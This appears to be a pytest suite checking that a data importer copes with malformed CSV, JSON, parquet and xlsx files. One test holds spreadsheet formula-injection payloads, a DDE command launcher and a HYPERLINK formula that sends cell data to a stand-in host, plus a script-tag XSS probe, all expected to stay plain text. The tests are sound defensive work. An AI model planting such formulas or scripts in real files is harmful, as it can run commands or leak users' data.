"""Files as they come in real life (tests/importers/awful): each does what a reasonable importer does with it."""

from __future__ import annotations

from pathlib import Path

import pytest

from al_core.errors import InvalidInput
from al_core.importers import Mapping, ReadOptions, preview, stage
from al_core.importers.previewing import make_preview
from al_core.importers.tables import DETECT
from al_core.types import Problem

LABELLED = Mapping(("text",), "id", "label")


def test_01_latin1_is_guessed_and_said(awful, stage_here):
    outcome = stage_here(awful / "01_latin1.csv", LABELLED)
    assert outcome.texts == ["Café crème à Zürich", "El niño está aquí"]
    assert any("cp1252, which is a guess" in note for note in outcome.staged.notes)
    assert outcome.staged.problems == (Problem(4, "Skipped: 4 cells where the header has 3 cells."),)


def test_03_bom_is_no_part_of_the_first_name(awful):
    assert make_preview(awful / "03_utf8_bom.csv", DETECT).columns == ("id", "text", "label")


def test_04_utf16_by_its_mark(awful, stage_here):
    assert stage_here(awful / "04_utf16.csv").texts == ["hello", "wörld"]


def test_05_mixed_separators_are_one_column_with_a_note(awful):
    shown = make_preview(awful / "05_mixed_separators.csv", DETECT)
    assert shown.columns == ("id;text,label",)
    assert any("do not agree on a separator (comma and semicolon)" in note for note in shown.notes)


def test_07_million_characters(written, stage_here):
    path = written("long.csv", 'id,text\n1,short\n2,"' + "lorem ipsum " * 83_334 + '"\n3,after\n')
    outcome = stage_here(path)
    assert [len(text) for text in outcome.texts] == [5, 1_000_008, 5]
    assert max(len(cells[1]) for cells in make_preview(path, DETECT).rows) == 300


def test_08_null_bytes_survive(awful, stage_here):
    assert stage_here(awful / "08_null_bytes.csv").texts == ["abc\0def", "\0\0", "ok"]


def test_09_every_code_point_survives(awful, stage_here):
    texts = stage_here(awful / "09_emoji_rtl_zwj.csv", LABELLED).texts
    assert texts[0] == "👩‍👩‍👧‍👦 family 🏳️‍🌈 flag 👍🏽"
    assert (len(texts), len(texts[5]), texts[4]) == (8, 9, "\u00e9 vs e\u0301 (NFC/NFD)")


def test_10_ids_are_text_and_the_first_text_of_an_id_stays(awful, stage_here):
    outcome = stage_here(awful / "10_duplicate_ids.csv", LABELLED)
    assert [record["external_id"] for record in outcome.records] == ["1", "2", "sha-745677f0e14bf1bd", "1.0", "01"]
    assert outcome.texts[0] == "first"
    assert outcome.staged.n_duplicate_ids == 2
    expected = Problem(3, "Skipped: id '1' is on line 2 already, with another text; that one is kept.")
    assert outcome.staged.problems == (expected,)


def test_11_no_text_column_is_asked(awful):
    shown = make_preview(awful / "11_no_text_column.csv", DETECT)
    assert shown.text_column is None
    assert "No column looks like text; choose the one that holds it." in shown.notes


def test_12_empty(awful):
    with pytest.raises(InvalidInput, match=r"12_empty\.csv is empty"):
        preview(awful / "12_empty.csv")


def test_14_words_for_nothing_are_texts(awful, stage_here):
    outcome = stage_here(awful / "14_blank_rows.csv")
    assert outcome.texts == ["NA", "null", "None", "nan", "0", "real text"]
    assert outcome.staged.n_empty == 3


@pytest.mark.parametrize("content", ["[" * 100_000 + "]" * 100_000, "[" * 100_000])
def test_17_deep_json_is_one_error(written, tmp_path, content):
    with pytest.raises(InvalidInput, match="nested too deeply"):
        stage(written("deep.json", content), Mapping(("text",)), tmp_path / "staged")


def test_19_bad_lines_are_named_and_good_ones_kept(awful, stage_here):
    outcome = stage_here(awful / "19_broken_line.jsonl")
    assert outcome.texts == ["ok", "ok", "last, no newline"]
    assert [problem.line for problem in outcome.staged.problems] == [2, 6]
    assert (outcome.staged.n_empty, outcome.staged.n_duplicate_texts) == (1, 1)


def test_21_huge_numbers_are_text(awful, stage_here):
    ids = [record["external_id"] for record in stage_here(awful / "21_huge_ints.csv").records]
    assert ids == ["9007199254740993", "123456789012345678901234567890", "-9223372036854775809", "1e400"]


def test_22_formulas_are_plain_text(awful, stage_here):
    assert make_preview(awful / "22_formula_injection.csv", DETECT).text_column == "text"
    texts = stage_here(awful / "22_formula_injection.csv", LABELLED).texts
    assert texts == [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ]


def test_23_markup_is_plain_text(awful, stage_here):
    texts = stage_here(awful / "23_html_script.csv", LABELLED).texts
    assert texts[0] == "<script>alert(1)</script>"
    assert texts[4] == "&lt;not escaped twice&gt; &amp;"


def test_25_equal_names_are_told_apart_and_said(awful):
    shown = make_preview(awful / "25_duplicate_columns.csv", DETECT)
    assert shown.columns == ("id", "text", "text (2)", "label", "label (2)", "column 6")
    assert len(shown.notes) == 3


def test_26_ragged_rows_and_an_unclosed_quote_are_named(awful, stage_here):
    outcome = stage_here(awful / "26_ragged.csv", LABELLED)
    assert outcome.texts == ["ok", "next"]
    assert outcome.staged.problems == (
        Problem(3, "Skipped: 5 cells where the header has 3 cells."),
        Problem(4, "Skipped: 1 cell where the header has 3 cells."),
        Problem(5, "Skipped: a quote is opened and never closed."),
    )


def test_28_every_row_its_own_label(written, stage_here):
    lines = "".join(f"{n},text number {n},label_{n}\n" for n in range(2_000))
    outcome = stage_here(written("many.csv", "id,text,label\n" + lines), LABELLED)
    assert len(outcome.staged.labels) == 2_000
    assert outcome.staged.labels[:2] == (("label_0", 1), ("label_1", 1))


def test_29_one_class(written, stage_here):
    lines = "".join(f"{n},text number {n},same\n" for n in range(50))
    assert stage_here(written("one.csv", "id,text,label\n" + lines), LABELLED).staged.labels == (("same", 50),)


def test_33_a_picture_is_no_parquet(awful):
    with pytest.raises(InvalidInput, match="is not a PARQUET file; it begins like a PNG picture"):
        preview(awful / "33_png_as.parquet")


def test_35_nested_columns_become_json(awful, stage_here):
    path = awful / "35_lists.parquet"
    assert make_preview(path, DETECT).text_column == "text"
    outcome = stage_here(path)
    assert outcome.records[1] == {
        "external_id": "2",
        "text": "b",
        "tokens": "[]",
        "meta": '{"k": 2}',
        "m": "{}",
        "cat": "y",
        "ts": "1970-01-01T00:00:00.000000001+00:00",
    }
    assert outcome.staged.notes == ('Column "bin" holds bytes and is left out.',)
    assert outcome.staged.n_empty == 1


def test_38_title_row_sheets_and_formulas(awful, stage_here):
    path = awful / "38_merged.xlsx"
    shown = make_preview(path, DETECT)
    assert shown.columns == ("id", "text", "label", "when")
    assert shown.sheets == ("Merged", "Second", "Hidden (hidden)")
    assert shown.options == ReadOptions(sheet="Merged", header_row=2)
    outcome = stage_here(path, LABELLED)
    assert outcome.records[0] == {"external_id": "1", "text": "merged down", "when": "2026-01-02"}
    assert outcome.staged.problems == (
        Problem(5, "Cell B5 is a formula without a stored value; it is empty here."),
        Problem(9, "Cell F9 lies outside of the table; it is left out."),
    )


@pytest.mark.parametrize(("sheet", "column"), [("Second", "text"), ("Hidden (hidden)", "secret"), ("Hidden", "secret")])
def test_38_any_sheet_can_be_chosen(awful, sheet, column):
    assert make_preview(awful / "38_merged.xlsx", ReadOptions(sheet=sheet)).columns == (column,)


def test_41_bad_spans_are_reported_with_the_record(awful, stage_here):
    outcome = stage_here(awful / "41_spans_bad.jsonl", Mapping(("text",), "id", span_column="spans"))
    assert len(outcome.records) == 11  # the text stays, whatever its spans are
    assert outcome.answers == [
        (0, "PER", 0, 4),
        (0, "LOC", 14, 20),
        (5, "A", 0, 18),
        (6, "X", 1, 6),
        (9, "PER", 6, 10),
        (10, "X", 0, 3),
    ]
    assert outcome.texts[9][6:10] == "Anna"
    why = [problem.message.split(" is left out: ")[-1] for problem in outcome.staged.problems]
    assert why == [
        "it lies outside of the text, which has 12 characters.",
        "it lies outside of the text, which has 8 characters.",
        "it ends before it starts.",
        "it is empty.",
        "it overlaps [0, 18, 'A'], which came first.",
        "it overlaps [0, 18, 'A'], which came first.",
        "Record '9': The spans 0:4:PER are not JSON.",
        "it is there twice.",
    ]
    assert outcome.staged.problems[0].message.startswith("Record '2': ")
    assert any("inside a token: 1; the first is in record '7'" in note for note in outcome.staged.notes)


def test_44_line_breaks_in_cells_stay_what_they_are(awful, stage_here):
    texts = stage_here(awful / "44_crlf_in_cells.csv").texts
    assert texts == ["line one\r\nline two\rline three\nline four", 'quote " inside']


UNREADABLE = ("12_empty.csv", "33_png_as.parquet")
AWFUL = sorted(path.name for path in (Path(__file__).parent / "awful").iterdir() if path.suffix)


@pytest.mark.parametrize("name", [name for name in AWFUL if name not in UNREADABLE])
def test_what_a_preview_detected_reads_the_same_when_it_is_chosen(name, awful, stage_here):
    shown = make_preview(awful / name, DETECT)
    mapping = Mapping((shown.text_column or shown.columns[0],), shown.id_column)
    assert make_preview(awful / name, shown.options).rows == shown.rows
    assert stage_here(awful / name, mapping).records == stage_here(awful / name, mapping, shown.options).records


def test_every_committed_file_is_tested(awful):
    source = Path(__file__).read_text(encoding="utf-8")
    untested = [path.name for path in awful.iterdir() if path.suffix and f'"{path.name}"' not in source]
    assert untested == []
